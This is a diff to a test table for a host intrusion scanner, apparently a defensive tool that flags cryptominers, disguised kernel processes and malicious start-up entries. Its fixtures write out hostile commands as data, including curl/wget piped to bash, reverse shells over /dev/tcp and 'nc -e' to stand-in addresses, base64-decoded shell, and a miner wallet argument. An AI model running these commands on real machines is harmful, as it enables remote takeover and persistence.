@@ -1,5 +1,6 @@
 """Each check on a dishonest subject and on the honest one that looks like it."""
 
+from dataclasses import replace
 from ipaddress import ip_address
 
 import pytest
@@ -25,13 +26,29 @@ from scanner.host.snapshot import (
 CHECKS = {check.id: check for check in load_checks()}
 S, W, N = Weight.STRONG, Weight.WEAK, Weight.NOTE
 BUSY = CpuUse(recent=0.99, life=0.97, age_s=600, of_all_recent=0.5)
+YOUNG = CpuUse(recent=0.99, life=0.97, age_s=5, of_all_recent=0.5)
 
 
 def proc(**fields):
     return Snapshot(root=True, processes=(Process(**{"pid": 7, "name": "x", "sockets_seen": True, **fields}),))
 
 
-def talks(address, port, **changes):
+def wired(*argv, executable="/usr/bin/bash", standard=(5, 5, 5), peer="203.0.113.9", **fields):
+    """Return a program whose input and output are a connection."""
+    about = {"argv": argv, "executable": executable, "standard": standard, "sockets": frozenset({5}), **fields}
+    socket = Socket(
+        address=ip_address("10.0.0.5"),
+        port=40000,
+        transport=Transport.TCP,
+        state=State.ESTABLISHED,
+        inode=5,
+        peer=ip_address(peer),
+        peer_port=443,
+    )
+    return Snapshot(processes=(Process(pid=7, sockets_seen=True, **about),), sockets=(socket,))
+
+
+def talks(address, port, fields=None, **changes):
     socket = Socket(
         address=ip_address("10.0.0.5"),
         port=40000,
@@ -41,7 +58,7 @@ def talks(address, port, **changes):
         peer=ip_address(address),
         peer_port=port,
     )
-    process = Process(pid=7, name="x", sockets=frozenset({5}), sockets_seen=True)
+    process = Process(**{"pid": 7, "name": "x", "sockets": frozenset({5}), "sockets_seen": True, **(fields or {})})
     return Snapshot(processes=(process,), sockets=(socket,), **changes)
 
 
@@ -52,8 +69,8 @@ def listens(*, held=True, root=True, seen=True, port=4444):
     return Snapshot(root=root, processes=(Process(pid=7, sockets=held_by, sockets_seen=seen),), sockets=(one,))
 
 
-def starts(kind, command):
-    return Snapshot(start_up=(StartUp(kind=kind, file="/etc/x", line=3, command=command),))
+def starts(kind, command, file="/etc/x"):
+    return Snapshot(start_up=(StartUp(kind=kind, file=file, line=3, command=command),))
 
 
 def box(**fields):
@@ -61,6 +78,7 @@ def box(**fields):
     return Snapshot(containers=(Container(**{**about, **fields}),))
 
 
+TOP = {"executable": "/usr/bin/top", "argv": ("top", "-o", "stratum+tcp://x:3333")}
 TABLE = [
     ("process-known-name", proc(name="xmrig"), [S]),
     ("process-known-name", proc(argv=("/opt/kinsing",)), [S]),
@@ -80,11 +98,57 @@ TABLE = [
     ("process-known-name", proc(executable="/tmp/.x/grep", argv=("grep", "stratum+tcp://")), [S]),
     ("process-known-name", proc(executable="/usr/bin/grep", deleted=True, argv=("grep", "stratum+tcp://")), [S]),
     ("process-known-name", proc(executable="/bin/python3", argv=("python", "/x/pytest", "stratum+tcp://")), [S]),
+    ("process-known-name", talks("8.8.4.4", 3333, TOP), [S]),
+    ("process-known-name", talks("8.8.4.4", 443, TOP), [N]),
+    ("process-known-name", proc(argv=("svc", "-a", "rx/0", "-o", "x:443")), [S]),
+    (
+        "process-known-name",
+        proc(
+            argv=(
+                "svc",
+                "-u",
+                "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
+            )
+        ),
+        [S],
+    ),
+    ("process-known-name", proc(executable="/opt/lolMiner"), [S]),
+    ("process-command", proc(argv=("sh", "-c", "echo c2xlZXA= | base64 -d | sh")), [W]),
+    ("process-command", proc(argv=("bash", "-c", "curl http://a/x | bash; chattr +i /etc/crontab")), [W, W]),
+    ("process-command", proc(argv=("bash", "-c", "echo of many lines\ncurl http://a/x | bash")), []),
+    ("process-command", proc(executable="/usr/bin/grep", argv=("grep", "curl a | sh")), []),
+    ("process-shell-connected", wired("bash", "-i"), [S]),
+    ("process-shell-connected", wired("sh"), [S]),
+    ("process-shell-connected", wired("sshd", "-i", executable="/usr/bin/dash"), [S]),
+    ("process-shell-connected", wired("bash", "-i", peer="127.0.0.1"), [W]),
+    ("process-shell-connected", wired("bash", "/usr/lib/answer.sh"), []),
+    ("process-shell-connected", wired("bash", "-c", "rsync --server"), []),
+    ("process-shell-connected", wired("bash", "-i", standard=(5,)), []),
+    ("process-shell-connected", wired("bash", "-i", standard=(6, 6, 6)), []),
+    ("process-shell-connected", wired("python3", "-c", "x", executable="/usr/bin/python3.11"), []),
+    (
+        "process-shell-connected",
+        replace(
+            found := wired("python3", "-c", "x", executable="/usr/bin/python3.11"),
+            processes=(*found.processes, Process(pid=8, parent=7, argv=("/bin/sh",), executable="/bin/sh")),
+        ),
+        [S],
+    ),
     ("process-disguised-as-kernel", proc(name="kworker/0:1", executable="/tmp/x"), [S]),
     ("process-disguised-as-kernel", proc(argv=("[kthreadd]",)), [S]),
     ("process-disguised-as-kernel", proc(name="kworker/0:1", kernel=True), []),
     ("process-disguised-as-kernel", proc(name="kworkers", argv=("/usr/bin/kworkers",)), []),
     ("process-disguised-as-kernel", proc(argv=("[celeryd: worker]",)), []),
+    ("process-disguised-as-kernel", proc(argv=("[kworker/u8:3-events_unbound]", "-c", "x")), [S]),
+    ("process-disguised-as-kernel", proc(argv=("kworker/u8:3",)), [S]),
+    ("process-disguised-as-kernel", proc(argv=("[nfsd]",)), [S]),
+    ("process-disguised-as-kernel", proc(name="nfsd", argv=("/usr/sbin/nfsd",)), []),
+    ("process-disguised-as-kernel", proc(argv=("[sshd]",)), [W]),
+    (
+        "process-disguised-as-kernel",
+        Snapshot(processes=(Process(pid=2, name="odd_wq/7", kernel=True), Process(pid=7, argv=("[odd_wq/12]",)))),
+        [S],
+    ),
     ("process-hidden-by-mount", proc(covered=True), [S]),
     ("process-hidden-by-mount", proc(), []),
     ("process-hidden", proc(unlisted=True), [S]),
@@ -97,19 +161,31 @@ TABLE = [
     ("process-executable-deleted", proc(executable="/usr/bin/x", deleted=True, replaced=True), [N]),
     ("process-executable-deleted", proc(executable="/usr/bin/x"), []),
     ("process-executable-in-memory", proc(executable="/memfd:x", deleted=True), [W]),
+    ("process-executable-in-memory", proc(executable="/memfd:x", deleted=True, sealed=True, argv=("x",)), [N]),
+    ("process-executable-in-memory", proc(executable="/memfd:x", deleted=True, sealed=True, silent=True), [W]),
     ("process-executable-in-memory", proc(executable="/memfd:runc_cloned:/proc/self/exe", deleted=True), [N]),
     ("process-executable-in-temporary-folder", proc(executable="/tmp/x"), [W]),
-    ("process-executable-in-temporary-folder", proc(executable="/opt/.../x"), [W]),
+    ("process-executable-in-temporary-folder", proc(executable="/opt/.../x"), [S]),
+    ("process-executable-in-temporary-folder", proc(executable="/opt/.. /x"), [S]),
+    ("process-executable-in-temporary-folder", proc(executable="/home/a/ mine/x"), [W]),
+    ("process-executable-in-temporary-folder", proc(executable="/home/a/My Programs/v1.2/x"), []),
     ("process-executable-in-temporary-folder", proc(executable="/tmp/.mount_a/x", fuse="/tmp/.mount_a"), [N]),
     ("process-executable-in-temporary-folder", proc(executable="/home/a/.pyenv/bin/python"), []),
     ("process-cpu", proc(cpu=BUSY), [W]),
     ("process-cpu", proc(cpu=CpuUse(recent=0.2, life=0.6, age_s=600, of_all_recent=0.4)), [W]),
     ("process-cpu", proc(cpu=CpuUse(recent=0.99, life=0.99, age_s=30, of_all_recent=0.5)), []),
+    ("process-cpu", proc(cpu=YOUNG, silent=True), [W]),
+    ("process-cpu", proc(cpu=YOUNG, executable="/memfd:x", deleted=True), [W]),
+    ("process-cpu", proc(cpu=YOUNG, executable="/var/tmp/.x/y"), [W]),
+    ("process-cpu", proc(cpu=YOUNG, executable="/tmp/a.out"), []),
+    ("process-cpu", proc(cpu=YOUNG, executable="/usr/bin/x", deleted=True, replaced=True), []),
     ("process-cpu", proc(cpu=CpuUse(recent=0.99, life=0.1, age_s=600, of_all_recent=0.5)), []),
     ("process-cpu", proc(cpu=BUSY, executable="/usr/bin/cc1plus"), []),
     ("connection-to-pool-port", talks("8.8.4.4", 3333), [W]),
     ("connection-to-pool-port", talks("8.8.4.4", 443), []),
+    ("connection-to-pool-port", talks("203.0.113.7", 3333), [W]),
     ("connection-to-pool-port", talks("10.0.0.9", 3333), []),
+    ("connection-to-pool-port", talks("127.0.0.1", 3333), []),
     ("connection-listed", talks("8.8.4.4", 443, listed=Listed(addresses=frozenset({"8.8.4.4"}))), [S]),
     ("connection-listed", talks("10.1.2.3", 1, listed=Listed(networks=("10.1.0.0/16",))), [S]),
     ("connection-listed", talks("10.2.2.3", 1, listed=Listed(networks=("10.1.0.0/16",))), []),
@@ -136,15 +212,27 @@ TABLE = [
     ("start-up-command", starts("cron", "/mac.sh"), [S]),
     ("start-up-command", starts("cron", "curl http://a/x | sh; chattr +i /etc/crontab"), [W, W]),
     ("start-up-command", starts("cron", "/usr/bin/certbot renew"), []),
+    ("start-up-command", starts("cron", "curl -fsSL http://198.51.100.7/x.sh | sh"), [S]),
+    ("start-up-command", starts("cron", "wget -qO- https://pastes.example.org/x | bash"), [S]),
+    ("start-up-command", starts("systemd unit", '/bin/bash -c "$(curl -fsSL https://a.example.org/x)"'), [S]),
+    ("start-up-command", starts("init script", "curl -s http://169.254.169.254/latest/user-data | bash"), [W]),
+    ("start-up-command", starts("cron", "curl -s http://deploy.corp/run | sh"), [W]),
+    ("start-up-command", starts("shell profile", "curl -fsSL https://get.example.org | sh"), [S]),
+    ("start-up-command", starts("shell profile", "curl -fsSL https://get.example.org | sh", file="/root/.zshrc"), [W]),
+    ("start-up-command", starts("shell profile", "echo c2xlZXA= | base64 -d | sh"), [S]),
+    ("start-up-command", starts("cron", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"), [S, W]),
+    ("start-up-command", starts("systemd unit", "/bin/bash -c '</dev/tcp/db/5432'"), [W]),
+    ("start-up-command", starts("at job", "nc -e /bin/sh 198.51.100.7 4444"), [S]),
     ("start-up-path", starts("udev rule", 'ACTION=="add", RUN+="/tmp/x"'), [W]),
     ("start-up-path", starts("udev rule", 'RUN+="/usr/bin/x"'), []),
-    ("start-up-path", starts("shell profile", "nohup /dev/shm/.x/run &"), [W]),
+    ("start-up-path", starts("shell profile", "nohup /dev/shm/.x/run &"), [S]),
     ("start-up-path", starts("shell profile", "/root/.local/bin/tool"), []),
     ("start-up-path", starts("shell profile", "[ -f /tmp/x ] && rm /tmp/x"), []),
     ("start-up-path", starts("systemd generator", "/tmp/x a"), [W]),
     ("start-up-path", starts("systemd generator", "/usr/lib/systemd/system-generators/x"), []),
     ("start-up-path", starts("cron script", "exec sh /var/tmp/x"), [W]),
-    ("start-up-path", starts("cron", "/tmp/.x/run >/dev/null"), [W]),
+    ("start-up-path", starts("cron", "/tmp/.x/run >/dev/null"), [S]),
+    ("start-up-path", starts("cron", "/tmp/run >/dev/null"), [W]),
     ("start-up-path", starts("systemd unit", "/var/tmp/x"), [W]),
     ("start-up-path", starts("cron", "/usr/bin/backup --log /tmp/backup.log"), []),
     ("start-up-path", starts("systemd user unit", "/home/a/.local/bin/x"), []),
@@ -153,6 +241,11 @@ TABLE = [
         "key-authorized",
         Snapshot(keys=(Line(file="/k", line=1, text='command="curl a" ssh-rsa AAA a', user="root"),)),
         [W],
+    ),
+    (
+        "key-authorized",
+        Snapshot(keys=tuple(Line(file="/k", line=n, text=t) for n, t in enumerate(("REDIS0009", "ssh-rsa AAA a")))),
+        [S],
     ),
     ("user-added", Snapshot(accounts=(Account(name="x", uid=0, line=2, shell="/bin/sh", home="/"),)), [S]),
     ("user-added", Snapshot(accounts=(Account(name="root", uid=0, line=1, shell="/bin/sh", home="/"),)), []),
